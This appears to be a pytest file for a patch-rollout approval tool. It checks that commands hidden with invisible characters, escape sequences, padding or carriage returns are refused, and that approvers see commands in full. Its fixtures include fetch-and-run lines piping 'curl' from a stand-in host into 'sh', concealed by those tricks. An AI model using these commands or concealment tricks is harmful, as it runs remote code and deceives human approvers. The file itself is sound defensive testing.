"""What approvers see is what runs (issue 13): text that reads differently from what a shell runs
is refused at every edge with the field named, and the e-mail, the Teams card and the link page
show the whole command, every script and the digest, folding long text, never cutting it."""

from __future__ import annotations

import html
import json
import re

import pytest
from pydantic import ValidationError
from typer.testing import CliRunner

from activities.notify.messages import approval_request
from activities.notify.teams import MAX_MESSAGE_BYTES, approval_card, envelope, size_of
from bot.cli import app
from bot.cli.common import UserError
from bot.web.approvals import what_runs
from workflows.models import RolloutInput, RolloutNotice, describe_validation_error

HIDDEN = {
    "right-to-left override": "apt-get -y upgrade \u202e# safe",
    "zero-width space": "apt-get\u200b -y upgrade",
    "escape sequence": "apt-get -y upgrade\x1b[8m; curl -s x.example | sh",
    "40 spaces": "apt-get -y upgrade" + " " * 40 + "; curl -s http://x.example/y | sh",
    "carriage return": "curl -s x.example | sh\recho harmless",
}
DIGEST = "sha256:" + "ab" * 32


def request(**extra: object) -> dict[str, object]:
    return {
        "targetClusters": ["cluster-a"],
        "pilotHostCount": 1,
        "requesterEmail": "bob@example.com",
        "approverEmails": ["alice@example.com"],
        "updateCommand": "apt-get -y upgrade",
        **extra,
    }


@pytest.mark.parametrize("text", HIDDEN.values(), ids=HIDDEN.keys())
@pytest.mark.parametrize(
    "field",
    ["updateCommand", "preDowntimeScripts", "preUpdateScripts", "postUpdateScripts"],
)
def test_hidden_text_is_refused_naming_the_field(field: str, text: str) -> None:
    value: object = text if field == "updateCommand" else ["echo fine", text]
    where = field if field == "updateCommand" else f"{field}[1]"
    for validate in (RolloutInput.at_edge, RolloutInput.model_validate):  # edge and workflow
        with pytest.raises(ValidationError) as refused:
            validate(request(**{field: value}))
        [line] = describe_validation_error(refused.value).splitlines()
        assert line.startswith(f"{where}: does not read as what runs: ")
        assert re.search(r"(character U\+[0-9A-F]{4}|a run of 40 spaces or tabs) at position", line)


def test_ordinary_scripts_pass() -> None:
    script = "set -e\nif true; then\n\techo ok   # aligned\nfi\n"
    rollout = RolloutInput.at_edge(request(preUpdateScripts=[script]))
    assert rollout.pre_update_scripts == [script]


def test_the_cli_refuses_hidden_text_naming_the_field() -> None:
    result = CliRunner().invoke(
        app,
        ["start", "--cluster", "cluster-a", "--pilot", "1", "--requester", "bob@example.com",
         "--approver", "alice@example.com", "--update", HIDDEN["right-to-left override"]],
    )  # fmt: skip
    assert isinstance(result.exception, UserError)
    assert "updateCommand: does not read as what runs: invisible character U+202E" in str(
        result.exception
    )


def notice(command: str, scripts: dict[str, list[str]] | None = None) -> RolloutNotice:
    return RolloutNotice(
        rollout_id="patch-1",
        requester_email="bob@example.com",
        approver_emails=["alice@example.com", "carol@example.com"],
        target_clusters=["cluster-a", "cluster-b"],
        hosts_by_cluster={"cluster-a": ["a1", "a2", "a3"], "cluster-b": ["b1", "b2"]},
        update_command=command,
        update_profile="security",
        scripts=scripts or {},
        digest=DIGEST,
    )


LONG = "\n".join(f"apt-get install -y package-{n:04d}=1.2.3-{n}" for n in range(180))  # ~7 kB
SCRIPTS = {
    "preDowntimeScripts": ["systemctl is-active nginx"],
    "postUpdateScripts": [LONG.replace("install", "reinstall"), "echo done # the tail"],
}


def test_the_e_mail_shows_everything_in_full() -> None:
    body = approval_request(notice(LONG, SCRIPTS)).body
    assert LONG in "\n".join(line.removeprefix("    ") for line in body.splitlines())
    assert "    echo done # the tail" in body and "    systemctl is-active nginx" in body
    assert (
        "After the update (each host, services started, before health checks), script 2 of 2:"
        in body
    )
    assert "Update command (update profile security), run on every host as written:" in body
    assert "Clusters: cluster-a, cluster-b (5 hosts in all)" in body
    assert (
        f"Digest of exactly what runs (clusters, hosts, command, scripts, services): {DIGEST}"
        in body
    )
    assert "bob@example.com asks to patch" in body


def texts(card: dict) -> list[str]:
    found: list[str] = []

    def walk(node: object) -> None:
        if isinstance(node, dict):
            if node.get("type") == "TextBlock":
                found.append(node["text"])
            for value in node.values():
                walk(value)
        elif isinstance(node, list):
            for value in node:
                walk(value)

    walk(card)
    return found


def test_the_teams_card_folds_long_text_and_shows_it_whole() -> None:
    card = approval_card(notice(LONG, SCRIPTS))
    assert size_of(envelope(card)) <= MAX_MESSAGE_BYTES
    shown = texts(card)
    for text in (LONG, SCRIPTS["postUpdateScripts"][0], "echo done # the tail"):
        assert text in shown  # whole, never cut
    folded = {c["id"] for c in card["body"] if c["type"] == "Container" and not c["isVisible"]}
    assert folded == {"command", "script-1"}  # the two long ones; the short ones inline
    toggles = [
        action["targetElements"]
        for block in card["body"]
        if block["type"] == "ActionSet"
        for action in block["actions"]
    ]
    assert toggles == [["command"], ["script-1"]]
    facts = {
        f["title"]: f["value"] for b in card["body"] if b["type"] == "FactSet" for f in b["facts"]
    }
    assert facts["Digest (what the approvals sign)"] == DIGEST
    assert facts["Hosts"] == "5" and facts["Requester"] == "bob@example.com"
    assert facts["Clusters"] == "cluster-a, cluster-b"
    # A channel card carries no link but the card schema's, let alone a personal one.
    links = re.findall(r"https?://[^\s\"]+", json.dumps(card))
    assert links == ["http://adaptivecards.io/schemas/adaptive-card.json"]


def test_a_command_too_long_for_teams_sends_approvers_to_the_whole_text() -> None:
    many = {"preUpdateScripts": [LONG + f"\n# {n}" for n in range(4)]}
    card = approval_card(notice(LONG, many))
    assert size_of(envelope(card)) <= MAX_MESSAGE_BYTES
    warning = [t for t in texts(card) if t.startswith("⚠")]
    assert warning == [
        f"⚠ The update command (update profile security) and 4 scripts "
        f"({len(LONG) * 5 + sum(len(f'{chr(10)}# {n}') for n in range(4))} characters) do not "
        "fit a Teams card (28 KB). Read them whole before deciding: on the confirmation page of "
        "the personal link in your e-mail, or in the approval e-mail itself."
    ]
    assert LONG not in texts(card)  # not a silent cut: said so, and where to read it all


def test_the_link_page_shows_the_whole_command_scripts_and_digest() -> None:
    rollout = RolloutInput.model_validate(
        request(
            updateCommand=LONG + " && echo '<b>'",
            updateProfile="security",
            postUpdateScripts=["echo one", "echo two # tail"],
        )
    )
    page = what_runs(rollout, DIGEST)
    command = re.search(r"<pre id='command'>(.*?)</pre>", page, re.S)
    assert command and html.unescape(command.group(1)) == LONG + " && echo '<b>'"
    assert "<pre id='script-postUpdateScripts-2'>echo two # tail</pre>" in page
    assert "After the update, script 2 of 2" in page
    assert f"<code id='digest'>{DIGEST}</code>" in page
    assert "update profile security" in page
